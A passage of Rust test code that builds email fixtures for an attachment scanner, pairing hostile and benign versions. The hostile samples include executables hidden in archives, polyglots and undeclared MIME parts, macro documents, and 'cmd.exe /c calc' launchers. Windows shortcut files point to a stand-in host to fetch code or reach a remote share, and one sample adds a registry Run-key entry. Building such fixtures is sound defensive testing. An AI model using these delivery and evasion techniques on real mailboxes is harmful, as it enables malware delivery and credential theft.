            std::io::Read::read_to_end(&mut f, &mut b).unwrap();
            entries.push((f.name().unwrap().to_string(), b));
        }
        entries.push((format!("word/embeddings/{name}"), data.to_vec()));
        let refs: Vec<(&str, &[u8])> = entries
            .iter()
            .map(|(n, b)| (n.as_str(), b.as_slice()))
            .collect();
        zip(&refs)
    };
    let ole10native = |data: &[u8]| {
        let mut v = (data.len() as u32).to_le_bytes().to_vec();
        v.extend_from_slice(data);
        v
    };
    let ics = |attach: &str| {
        format!(
            "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:conseil-2026-12@ville-exemple.fr\r\nDTSTART:20261210T180000Z\r\nSUMMARY:Conseil municipal\r\n{attach}END:VEVENT\r\nEND:VCALENDAR\r\n"
        )
        .into_bytes()
    };
    let exe_attach = {
        let b = base64::engine::general_purpose::STANDARD.encode(pe());
        let folded: Vec<&str> = b
            .as_bytes()
            .chunks(70)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        format!(
            "ATTACH;FMTTYPE=application/octet-stream;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=ordre-du-jour.exe:{}\r\n",
            folded.join("\r\n ")
        )
    };
    let pdf_ef_untyped = |data: &[u8]| {
        let objects = vec![
            "5 0 obj\n<< /Type /Filespec /F (annexe.pdf) /UF (annexe.pdf) /EF << /F 6 0 R >> >>\nendobj\n".to_string(),
            format!("6 0 obj\n<< /Length {} >>\nstream\n", data.len()),
        ];
        let mut bytes = pdf(
            "/Names << /EmbeddedFiles << /Names [(annexe.pdf) 5 0 R] >> >>",
            &[],
        );
        let trailer = bytes.windows(7).position(|w| w == b"trailer").unwrap();
        let tail = bytes.split_off(trailer);
        bytes.extend_from_slice(objects[0].as_bytes());
        bytes.extend_from_slice(objects[1].as_bytes());
        bytes.extend_from_slice(data);
        bytes.extend_from_slice(b"\nendstream\nendobj\n");
        bytes.extend_from_slice(&tail);
        bytes
    };
    vec![
        fx(
            c,
            "120-eml-in-zip-script",
            with_attachment(
                "Transfert",
                "application/zip",
                "transfert.zip",
                &zip(&[("message.eml", inner_script.as_bytes())]),
            ),
            q,
            &["script"],
        ),
        fx(
            c,
            "121-eml-in-zip-pdf",
            with_attachment(
                "Transfert",
                "application/zip",
                "transfert.zip",
                &zip(&[("message.eml", inner_pdf.as_bytes())]),
            ),
            "deliver",
            &[],
        ),
        fx(
            c,
            "122-eml-octet-stream-docm",
            with_attachment(
                "Transfert",
                "application/octet-stream",
                "message.eml",
                with_attachment(
                    "Facture",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    "facture.docx",
                    &docm("Facture"),
                )
                .as_bytes(),
            ),
            q,
            &["macro", "type_mismatch"],
        ),
        fx(
            c,
            "123-eml-octet-stream-letter",
            with_attachment(
                "Transfert",
                "application/octet-stream",
                "message.eml",
                message("Compte rendu", &text_part(TEXT)).as_bytes(),
            ),
            "deliver",
            &[],
        ),
        fx(
            c,
            "124-msg-docm",
            with_attachment(
                "Transfert",
                "application/vnd.ms-outlook",
                "transfert.msg",
                &msg("Facture", "facture.docm", &docm("Facture")),
            ),
            q,
            &["macro"],
        ),
        fx(
            c,
            "125-msg-pdf",
            with_attachment(
                "Transfert",
                "application/vnd.ms-outlook",
                "transfert.msg",
                &msg("Facture", "facture.pdf", &pdf("", &[])),
            ),
            "deliver",
            &[],
        ),
        fx(
            c,
            "126-smime-signed-script",
            with_attachment(
                "Relevé signé",
                "application/pkcs7-mime",
                "smime.p7m",
                &cms_signed(signed_entity(&inner_script).as_bytes()),
            ),
            q,
            &["script"],
        ),
        fx(
            c,
            "127-smime-signed-letter",
            with_attachment(
                "Lettre signée",
                "application/pkcs7-mime",
                "smime.p7m",
                &cms_signed(text_part(TEXT).as_bytes()),
            ),
            "deliver",
            &[],
        ),
        fx(
            c,
            "128-smime-encrypted",
            with_attachment(
                "Confidentiel",
                "application/pkcs7-mime",
                "smime.p7m",
                &cms_enveloped(),
            ),
            q,
            &["encrypted_message"],
        ),
        fx(
            c,
            "129-pgp-message",
            message(
                "Confidentiel",
                &text_part(
                    "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA8h7g2xA1YqnAQf/Ym9uam91cg==\r\n=abcd\r\n-----END PGP MESSAGE-----",
                ),
            ),
            q,
            &["encrypted_message"],
        ),
        fx(
            c,
            "130-rtf-package-script",
            with_attachment(
                "Courrier",
                "application/rtf",
                "courrier.doc",
                &rtf_with_object(&ole1("Package", &package("facture.js", script))),
            ),
            q,
            &["script"],
        ),
        fx(
            c,
            "131-rtf-ole2-vba",
            with_attachment(
                "Courrier",
                "application/rtf",
                "courrier.rtf",
                &rtf_with_object(&ole1("Word.Document.8", &ole_doc_with_macros())),
            ),
            q,
            &["macro"],
        ),
        fx(
            c,
            "132-rtf-letter",
            with_attachment(
                "Courrier",
                "application/rtf",
                "courrier.rtf",
                b"{\\rtf1\\ansi Madame, Monsieur,\\par Veuillez agr\\'e9er nos salutations.\\par}",
            ),
            "deliver",
            &[],
        ),
        fx(
            c,
            "133-docx-package-script",
            with_attachment(
                "Rapport",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                "rapport.docx",
                &docx_with_embedding(
                    "oleObject1.bin",
                    &ole(
                        None,
                        &[(
                            "/\u{1}Ole10Native",
                            &ole10native(&package("annexe.js", script)),
                        )],
                    ),
                ),
            ),
            q,
            &["script"],
        ),
        fx(
            c,
            "134-docx-embedded-chart",
            with_attachment(
                "Rapport",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                "rapport.docx",
                &docx_with_embedding("Microsoft_Excel_Worksheet.xlsx", &xlsx(false)),
            ),
            "deliver",
            &[],
        ),
        fx(
            c,
            "135-pdf-ef-untyped-exe",
            with_attachment(
                "Dossier",
                "application/pdf",
                "dossier.pdf",
                &pdf_ef_untyped(&pe()),
            ),
            q,
            &["executable", "type_mismatch"],
        ),
        fx(
            c,
            "136-ics-base64-exe",
            with_attachment(
                "Invitation",
                "text/calendar",
                "invite.ics",
                &ics(&exe_attach),
            ),
            q,
            &["executable"],
        ),
        fx(
            c,
            "137-outlook-invite",
            with_attachment("Invitation", "text/calendar", "invite.ics", &ics("")),
            "deliver",
            &[],
        ),
        fx(
            c,
            "138-tnef-embedded-message-docm",
            with_attachment(
                "TR: Relance",
                "application/ms-tnef",
                "winmail.dat",
                &tnef_embedded_message(
                    "Relance facture",
                    &tnef(&[("facture.docm", &docm("AutoOpen"))]),
                ),
            ),
            q,
            &["macro"],
        ),
        fx(
            c,
            "139-tnef-embedded-message-pdf",
            with_attachment(
                "TR: Convocation",
                "application/ms-tnef",
                "winmail.dat",
                &tnef_embedded_message("Convocation", &tnef(&[("convocation.pdf", &pdf("", &[]))])),
            ),
            "deliver",
            &[],
        ),
    ]
}

/// A ZIP with two entries of the same name (`first` then `second`): the
/// writer refuses duplicates, so the second is written under a stand-in
/// name of the same length, then renamed in its local header and in the
/// central directory.
fn zip_duplicate(name: &str, first: &[u8], second: &[u8]) -> Vec<u8> {
    let standin = format!("{}#", &name[..name.len() - 1]);
    let mut bytes = zip(&[(name, first), (&standin, second)]);
    let (from, to) = (standin.as_bytes(), name.as_bytes());
    let mut i = 0;
    while let Some(p) = bytes[i..].windows(from.len()).position(|w| w == from) {
        bytes[i + p..i + p + from.len()].copy_from_slice(to);
        i += p + from.len();
    }
    bytes
}

/// A PDF whose only object stream (object 5, holding the catalog's
/// additions `catalog`) is RC4-128 encrypted with the empty user password
/// (revision 3), as a PDF restricted against editing is: the standard
/// security handler of ISO 32000-1 §7.6.3, Algorithms 1, 2 and 5.
fn pdf_permissions_only(objstm_body: &str) -> Vec<u8> {
    use md5::{Digest, Md5};
    use rc4::{KeyInit, Rc4, StreamCipher};
    const PAD: [u8; 32] = [
        0x28, 0xbf, 0x4e, 0x5e, 0x4e, 0x75, 0x8a, 0x41, 0x64, 0x00, 0x4e, 0x56, 0xff, 0xfa, 0x01,
        0x08, 0x2e, 0x2e, 0x00, 0xb6, 0xd0, 0x68, 0x3e, 0x80, 0x2f, 0x0c, 0xa9, 0xfe, 0x64, 0x53,
        0x69, 0x7a,
    ];
    let rc4 = |key: &[u8], data: &mut [u8]| Rc4::new_from_slice(key).unwrap().apply_keystream(data);
    let owner = [0x5au8; 32];
    let id0 = *b"ecluse-fixture-1";
    let p: i32 = -3900;
    let mut key = Md5::new()
        .chain_update(PAD)
        .chain_update(owner)
        .chain_update(p.to_le_bytes())
        .chain_update(id0)
        .finalize()
        .to_vec();
    for _ in 0..50 {
        key = Md5::digest(&key[..16]).to_vec();
    }
    key.truncate(16);
    let mut user = Md5::new()
        .chain_update(PAD)
        .chain_update(id0)
        .finalize()
        .to_vec();
    for i in 0..20u8 {
        let k: Vec<u8> = key.iter().map(|b| b ^ i).collect();
        rc4(&k, &mut user);
    }
    user.resize(32, 0);
    let object_key = Md5::new()
        .chain_update(&key)
        .chain_update([5, 0, 0, 0, 0])
        .finalize();
    let mut data = objstm_body.as_bytes().to_vec();
    rc4(&object_key[..16], &mut data);
    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02X}")).collect::<String>();
    let mut out = b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n".to_vec();
    out.extend_from_slice(
        format!(
            "5 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Length {} >>\nstream\n",
            data.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&data);
    out.extend_from_slice(format!(
        "\nendstream\nendobj\n7 0 obj\n<< /Filter /Standard /V 2 /R 3 /Length 128 /P {p} /O <{}> /U <{}> >>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt 7 0 R /ID [<{}><{}>] >>\n%%EOF\n",
        hex(&owner), hex(&user), hex(&id0), hex(&id0)
    ).as_bytes());
    out
}

/// Every reading of a file (issue 14): ZIP readings, names as Windows
/// saves them. Hostile and benign twins.
fn readings() -> Vec<Fixture> {
    let r = "reading";
    let q = "quarantine";
    let z = "application/zip";
    let pdf_bytes = pdf("", &[]);
    let concatenated = [
        zip(&[("facture.exe", &pe())]),
        zip(&[("facture.pdf", &pdf_bytes)]),
    ]
    .concat();
    let prefixed = |inner: &[u8]| {
        [
            b"Archive auto-extractible, version 2.1\r\n".as_slice(),
            inner,
        ]
        .concat()
    };
    let zw = "facture.pdf\u{200b}.js";
    vec![
        fx(
            r,
            "150-pdf-permissions-only-javascript",
            with_attachment(
                "Avis",
                "application/pdf",
                "avis.pdf",
                &pdf_permissions_only("3 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
            ),
            q,
            &["active_content"],
        ),
        fx(
            r,
            "151-pdf-permissions-only-plain",
            with_attachment(
                "Avis",
                "application/pdf",
                "avis.pdf",
                &pdf_permissions_only("3 0 << /Producer (Mairie) >>"),
            ),
            "deliver",
            &[],
        ),
        fx(
            r,
            "140-zip-concatenated-exe-first",
            with_attachment("Factures", z, "factures.zip", &concatenated),
            q,
            &["executable", "archive_ambiguity"],
        ),
        fx(
            r,
            "141-zip-two-pdfs",
            with_attachment(
                "Factures",
                z,
                "factures.zip",
                &zip(&[("a.pdf", &pdf_bytes), ("b.pdf", &pdf_bytes)]),
            ),
            "deliver",
            &[],
        ),
        fx(
            r,
            "142-zip-after-prefix-exe",
            with_attachment(
                "Factures",
                z,
                "factures.zip",
                &prefixed(&zip(&[("facture.exe", &pe())])),
            ),
            q,
            &["executable"],
        ),
        fx(
            r,
            "143-zip-after-prefix-pdf",
            with_attachment(
                "Factures",
                z,
                "factures.zip",
                &prefixed(&zip(&[("facture.pdf", &pdf_bytes)])),
            ),
            "deliver",
            &[],
        ),
        fx(
            r,
            "144-zip-duplicate-eicar-first",
            with_attachment(
                "Relevé",
                z,
                "releve.zip",
                &zip_duplicate("releve.pdf", &eicar(), &pdf_bytes),
            ),
            "reject",
            &["malware", "type_mismatch", "archive_ambiguity"],
        ),
        fx(
            r,
            "145-zip-duplicate-eicar-last",
            with_attachment(
                "Relevé",
                z,
                "releve.zip",
                &zip_duplicate("releve.pdf", &pdf_bytes, &eicar()),
            ),
            "reject",
            &["malware", "type_mismatch", "archive_ambiguity"],
        ),
        fx(
            r,
            "146-name-trailing-dots-spaces",
            with_attachment(
                "Facture",
                "application/octet-stream",
                "facture.pdf.js . .",
                b"var x = 1;",
            ),
            q,
            &["script", "double_extension"],
        ),
        fx(
            r,
            "147-name-ntfs-stream",
            with_attachment(
                "Notes",
                "application/octet-stream",
                "outil.exe:Zone.Identifier",
                &pe(),
            ),
            q,
            &["executable"],
        ),
        fx(
            r,
            "148-name-zero-width",
            with_attachment("Facture", "application/octet-stream", zw, b"var x = 1;"),
            q,
            &["script", "double_extension"],
        ),
        fx(
            r,
            "149-name-trailing-dot-pdf",
            with_attachment("Facture", "application/pdf", "facture.pdf.", &pdf_bytes),
            "deliver",
            &[],
        ),
    ]
}

/// OOXML spreadsheet parts with a given main content type and extra parts.
fn spreadsheet(main_type: &str, workbook: (&str, &[u8]), extra: &[(&str, &[u8])]) -> Vec<u8> {
    let ct = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/{}" ContentType="{main_type}"/></Types>"#,
        workbook.0
    );
    let rels = format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{}"/></Relationships>"#,
        workbook.0
    );
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", ct.as_bytes()),
        ("_rels/.rels", rels.as_bytes()),
        workbook,
    ];
    entries.extend_from_slice(extra);
    zip(&entries)
}

/// A BIFF8 workbook stream: BOF, one `BoundSheet8` of sheet type `dt`
/// (0 worksheet, 1 Excel 4.0 macro sheet, [MS-XLS] §2.4.28), EOF.
fn biff_workbook(dt: u8) -> Vec<u8> {
    let mut v = Vec::new();
    let mut record = |kind: u16, data: &[u8]| {
        v.extend_from_slice(&kind.to_le_bytes());
        v.extend_from_slice(&(data.len() as u16).to_le_bytes());
        v.extend_from_slice(data);
    };
    record(
        0x0809,
        &[0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    );
    let mut sheet = vec![0, 0, 0, 0, 0, dt, 6, 0];
    sheet.extend_from_slice(b"Feuil1");
    record(0x0085, &sheet);
    record(0x000a, &[]);
    v
}

/// A DOS program without a PE header: a real `IMAGE_DOS_HEADER` (last
/// page 0x90 bytes, 3 pages, 4 header paragraphs) and a stub.
fn dos_program() -> Vec<u8> {
    let mut v = vec![0u8; 0x200];
    v[0..2].copy_from_slice(b"MZ");
    v[2..4].copy_from_slice(&0x90u16.to_le_bytes());
    v[4..6].copy_from_slice(&3u16.to_le_bytes());
    v[8..10].copy_from_slice(&4u16.to_le_bytes());
    v[0x40..0x44].copy_from_slice(&[0xb4, 0x4c, 0xcd, 0x21]);
    v
}

/// A ZIP written as a stream (sizes and CRC in data descriptors after each
/// entry, zeros in the local headers), as `zip -` and many servers do.
fn zip_streamed(entries: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut w = zip::ZipWriter::new_stream(Vec::new());
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(zip::DateTime::default());
    for (name, data) in entries {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Replaces the first occurrence of `from` by `to` (same length).
fn patch_first(mut bytes: Vec<u8>, from: &[u8], to: &[u8]) -> Vec<u8> {
    let at = bytes.windows(from.len()).position(|w| w == from).unwrap();
    bytes[at..at + to.len()].copy_from_slice(to);
    bytes
}

/// More readings: gzip members, tar duplicates and trailing data, 7z
/// duplicates, a ZIP whose local header disagrees with its directory, and
/// the false-alarm markers with their real twins.
fn more_readings() -> Vec<Fixture> {
    let r = "reading";
    let q = "quarantine";
    let text = b"Compte rendu du conseil municipal\r\n".as_slice();
    let xlsb_type = "application/vnd.ms-excel.sheet.binary.macroEnabled.main";
    let workbook_bin: &[u8] = b"\x83\x01\x00\x84\x01\x00";
    let vba = ole(
        None,
        &[
            ("/VBA/_VBA_PROJECT", b"_VBA_PROJECT"),
            ("/VBA/ThisWorkbook", b"Sub Workbook_Open()\r\nEnd Sub"),
        ],
    );
    let xlsx_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    let wb: &[u8] = br#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Budget" sheetId="1"/></sheets></workbook>"#;
    let macrosheet: &[u8] = br#"<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>"#;
    let sheet_type = "application/vnd.ms-excel.sheet.binary.macroEnabled.12";
    vec![
        fx(r, "152-gzip-two-members-exe",
            with_attachment("Rapport", "application/gzip", "rapport.txt.gz",
                &[gzip("rapport.txt", text), gzip("setup.exe", &pe())].concat()),
            q, &["executable", "archive_ambiguity"]),
        fx(r, "153-gzip-one-member-text",
            with_attachment("Rapport", "application/gzip", "rapport.txt.gz", &gzip("rapport.txt", text)),
            "deliver", &[]),
        fx(r, "154-tar-duplicate-eicar-first",
            with_attachment("Archive", "application/x-tar", "pieces.tar", &tar(&[("lettre.txt", &eicar()), ("lettre.txt", text)])),
            "reject", &["malware", "archive_ambiguity"]),
        fx(r, "155-tar-duplicate-eicar-last",
            with_attachment("Archive", "application/x-tar", "pieces.tar", &tar(&[("lettre.txt", text), ("lettre.txt", &eicar())])),
            "reject", &["malware", "archive_ambiguity"]),
        fx(r, "156-tar-after-end-marker-exe",
            with_attachment("Archive", "application/x-tar", "pieces.tar",
                &[tar(&[("lettre.txt", text)]), tar(&[("setup.exe", &pe())])].concat()),
            q, &["executable", "archive_ambiguity"]),
        fx(r, "157-tar-two-letters",
            with_attachment("Archive", "application/x-tar", "pieces.tar", &tar(&[("a.txt", text), ("b.txt", text)])),
            "deliver", &[]),
        fx(r, "158-7z-duplicate-eicar",
            with_attachment("Archive", "application/x-7z-compressed", "pieces.7z",
                &sevenz(&[("lettre.txt", text), ("lettre.txt", &eicar())], None)),
            "reject", &["malware", "archive_ambiguity"]),
        fx(r, "159-zip-local-name-differs-exe",
            with_attachment("Facture", "application/zip", "facture.zip",
                &patch_first(zip(&[("facture.txt", &pe())]), b"facture.txt", b"facture.exe")),
            q, &["executable", "type_mismatch", "archive_ambiguity"]),
        fx(r, "160-zip-streamed-data-descriptors",
            with_attachment("Factures", "application/zip", "factures.zip",
                &zip_streamed(&[("a.pdf", &pdf("", &[])), ("b.txt", text)])),
            "deliver", &[]),
        fx(r, "161-xlsb-without-macros",
            with_attachment("Budget", sheet_type, "budget.xlsb",
                &spreadsheet(xlsb_type, ("xl/workbook.bin", workbook_bin), &[])),
            "deliver", &[]),
        fx(r, "162-xlsb-with-vba",
            with_attachment("Budget", sheet_type, "budget.xlsb",
                &spreadsheet(xlsb_type, ("xl/workbook.bin", workbook_bin), &[("xl/vbaProject.bin", &vba)])),
            q, &["macro"]),
        fx(r, "163-xlsx-excel4-macrosheet",
            with_attachment("Budget", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "budget.xlsx",
                &spreadsheet(xlsx_type, ("xl/workbook.xml", wb), &[("xl/macrosheets/sheet1.xml", macrosheet)])),
            q, &["macro", "type_mismatch"]),
        fx(r, "164-xls-excel4-macrosheet",
            with_attachment("Budget", "application/vnd.ms-excel", "budget.xls",
                &ole(None, &[("/Workbook", &biff_workbook(1))])),
            q, &["macro"]),
        fx(r, "165-xls-worksheet",
            with_attachment("Budget", "application/vnd.ms-excel", "budget.xls",
                &ole(None, &[("/Workbook", &biff_workbook(0))])),
            "deliver", &[]),
        fx(r, "166-mz-text",
            with_attachment("Notes", "text/plain", "notes.txt",
                "MZ Immobilier, zone artisanale des Pradeaux\r\nCompte rendu de visite du 12 novembre.\r\n".as_bytes()),
            "deliver", &[]),
        fx(r, "167-dos-program-as-txt",
            with_attachment("Notes", "text/plain", "notes.txt", &dos_program()),
            q, &["executable", "type_mismatch"]),
        fx(r, "169-name-short-8dot3",
            with_attachment("Facture", "application/octet-stream", "FACTUR~1.JS", b"WScript.Echo(1)"),
            q, &["script"]),
        fx(r, "168-jpeg-zip-polyglot-exe",
            with_attachment("Photo", "image/jpeg", "photo.jpg",
                &[jpeg(), zip(&[("setup.exe", &pe())])].concat()),
            q, &["executable", "archive_ambiguity"]),
    ]
}

/// Types Windows opens with a program that connects out or runs code: one
/// by name (with its real content), and by content under a name that
/// says nothing.
fn dangerous_types() -> Vec<Fixture> {
    let utf16 = |s: &str| -> Vec<u8> {
        let mut v = vec![0xff, 0xfe];
        for u in s.encode_utf16() {
            v.extend_from_slice(&u.to_le_bytes());
        }
        v
    };
    let samples: Vec<(&'static str, Vec<u8>, &'static str)> = vec![
        ("rdp", utf16("screen mode id:i:2\r\nfull address:s:assistance.example.net\r\nredirectdrives:i:1\r\ndrivestoredirect:s:*\r\n"), "shortcut"),
        ("url", b"[InternetShortcut]\r\nURL=file://203.0.113.7/partage/facture.pdf.lnk\r\n".to_vec(), "shortcut"),
        ("library-ms", br#"<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\203.0.113.7\partage</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"#.to_vec(), "shortcut"),
        ("searchConnector-ms", br#"<?xml version="1.0" encoding="UTF-8"?><searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><simpleLocation><url>https://203.0.113.7/dav/</url></simpleLocation></searchConnectorDescription>"#.to_vec(), "shortcut"),
        ("appinstaller", br#"<?xml version="1.0" encoding="utf-8"?><AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018" Version="1.0.0.0" Uri="https://203.0.113.7/a.appinstaller"><MainPackage Name="Outil" Version="1.0.0.0" Publisher="CN=Outil" Uri="https://203.0.113.7/a.msix"/></AppInstaller>"#.to_vec(), "executable"),
        ("application", br#"<?xml version="1.0" encoding="utf-8"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0"><deployment install="false" xmlns="urn:schemas-microsoft-com:asm.v2"><deploymentProvider codebase="https://203.0.113.7/outil.application"/></deployment></asmv1:assembly>"#.to_vec(), "executable"),
        ("iqy", b"WEB\r\n1\r\nhttps://203.0.113.7/requete.php?id=1\r\n".to_vec(), "shortcut"),
        ("slk", b"ID;P\r\nC;Y1;X1;K0;EEXEC(\"calc\")\r\nE\r\n".to_vec(), "shortcut"),
        ("theme", b"[Theme]\r\nDisplayName=Mairie\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\203.0.113.7\\partage\\fond.jpg\r\n".to_vec(), "shortcut"),
        ("inf", b"[Version]\r\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\nRunPreSetupCommands=Lancer\r\n[Lancer]\r\ncmd.exe /c calc\r\n".to_vec(), "script"),
        ("settingcontent-ms", br#"<?xml version="1.0" encoding="UTF-8"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><DeepLink>%windir%\system32\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"#.to_vec(), "script"),
        ("jnlp", br#"<?xml version="1.0"?><jnlp spec="1.0+" codebase="https://203.0.113.7/"><resources><jar href="outil.jar"/></resources><application-desc main-class="Outil"/></jnlp>"#.to_vec(), "executable"),
        ("wsb", b"<Configuration><LogonCommand><Command>cmd.exe /c calc</Command></LogonCommand></Configuration>".to_vec(), "script"),
        ("reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"Outil\"=\"calc.exe\"\r\n".to_vec(), "script"),
    ];
    let by_name_only: Vec<(&'static str, Vec<u8>, &'static str)> = vec![
        ("xll", pe(), "executable"),
        ("mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"x\"\r\n\r\n--x\r\nContent-Location: file:///C:/page.htm\r\nContent-Type: text/html\r\n\r\n<html><body>Facture</body></html>\r\n--x--\r\n".to_vec(), "script"),
        ("diagcab", cab(), "script,unscannable_archive"),
        ("search-ms", b"search-ms:query=facture&crumb=location:\\\\203.0.113.7\\partage".to_vec(), "shortcut"),
        ("mdb", b"\x00\x01\x00\x00Standard Jet DB\x00".to_vec(), "script"),
        ("accde", b"\x00\x01\x00\x00Standard ACE DB\x00".to_vec(), "script"),
        ("appcontent-ms", br#"<?xml version="1.0"?><ApplicationContent xmlns="http://schemas.microsoft.com/Search/2013/ApplicationContent"><DeepLink>cmd.exe /c calc</DeepLink></ApplicationContent>"#.to_vec(), "script"),
        ("dqy", b"XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=203.0.113.7\r\nSELECT 1\r\n".to_vec(), "shortcut"),
        ("odc", b"<html><head><meta name=ProgId content=ODC.Database><xml id=docprops></xml></head></html>".to_vec(), "shortcut"),
        ("chm", b"ITSF\x03\x00\x00\x00".to_vec(), "executable"),
        ("bas", b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\nEnd Sub\r\n".to_vec(), "script"),
    ];
    let leak = |s: String| -> &'static str { Box::leak(s.into_boxed_str()) };
    let cats = |c: &'static str| -> &'static [&'static str] {
        Box::leak(c.split(',').collect::<Vec<_>>().into_boxed_slice())
    };
    let mut out = Vec::new();
    let mut n = 170;
    for (ext, bytes, category) in samples.iter().chain(&by_name_only) {
        let name = format!("document.{ext}");
        out.push(fx(
            "dangerous",
            leak(format!("{n}-{}-by-name", ext.to_ascii_lowercase())),
            with_attachment("Document", "application/octet-stream", &name, bytes),
            "quarantine",
            cats(category),
        ));
        n += 1;
    }
    for (ext, bytes, category) in &samples {
        out.push(fx(
            "dangerous",
            leak(format!("{n}-{}-by-content", ext.to_ascii_lowercase())),
            with_attachment("Document", "application/octet-stream", "document", bytes),
            "quarantine",
            cats(category),
        ));
        n += 1;
    }
    out
}

/// Text that hides a file: encoded runs in bodies, preambles and
/// epilogues, MIME structure that no header declares; each with a benign
/// twin that stays delivered.
fn hiding() -> Vec<Fixture> {
    let h = "hiding";
    let q = "quarantine";
    let text = |body: &str| message("Document", &text_part(body));
    let exe = pe();
    let der: Vec<u8> = (0..600u32).map(|i| (i * 7 + 3) as u8).collect();
    let inner_multipart = format!(
        "--limite\r\n{}\r\n--limite--\r\n",
        attachment("application/octet-stream", "outil.exe", &exe)
    );
    vec![
        fx(
            h,
            "200-base64-run-exe-in-text",
            text(&format!(
                "Bonjour,\r\n\r\nvoici l'outil :\r\n\r\n{}\r\nCordialement",
                b64(&exe)
            )),
            q,
            &["executable"],
        ),
        fx(
            h,
            "201-pem-certificate-in-text",
            text(&format!(
                "Bonjour,\r\n\r\nvoici le certificat du serveur :\r\n\r\n-----BEGIN CERTIFICATE-----\r\n{}-----END CERTIFICATE-----\r\n\r\nCordialement",
                b64(&der)
            )),
            "deliver",
            &[],
        ),
        fx(
            h,
            "202-quoted-printable-undeclared-script",
            message(
                "Document",
                "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nSet s =3D CreateObject(=22WScript.Shell=22)=\r\n: s.Run =22calc=22, 0\r\n",
            ),
            q,
            &["script"],
        ),
        fx(
            h,
            "203-quoted-printable-undeclared-letter",
            message(
                "Document",
                "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nBonjour, le caf=C3=A9 de la r=C3=A9union est offert par la mairie, =\r\nmerci de r=C3=A9pondre avant jeudi.\r\n",
            ),
            "deliver",
            &[],
        ),
        fx(
            h,
            "204-uuencode-in-preamble",
            message(
                "Document",
                &format!(
                    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n{}\r\n--b\r\n{}\r\n--b--\r\n",
                    uuencode("outil.exe", &exe),
                    text_part("Bonjour")
                ),
            ),
            q,
            &["executable", "mime_ambiguity"],
        ),
        fx(
            h,
            "205-base64-in-epilogue",
            message(
                "Document",
                &format!(
                    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n{}\r\n--b--\r\n{}",
                    text_part("Bonjour"),
                    b64(&exe)
                ),
            ),
            q,
            &["executable", "mime_ambiguity"],
        ),
        fx(
            h,
            "206-undeclared-multipart-in-text",
            text(&format!("Bonjour,\r\n{inner_multipart}")),
            q,
            &["executable", "mime_ambiguity"],
        ),
        fx(
            h,
            "207-letter-with-dash-lines",
            text(
                "Ordre du jour\r\n----------\r\n1. Budget\r\n2. Voirie\r\n\r\n-- \r\nLe secrétariat de mairie",
            ),
            "deliver",
            &[],
        ),
        fx(
            h,
            "208-no-content-type-body-with-parts",
            format!("{}\r\n{inner_multipart}", headers("Document")),
            q,
            &["executable", "mime_ambiguity"],
        ),
        fx(
            h,
            "209-multipart-with-base64-transfer-encoding",
            message(
                "Document",
                &format!(
                    "Content-Type: multipart/mixed; boundary=\"limite\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
                    b64(inner_multipart.as_bytes())
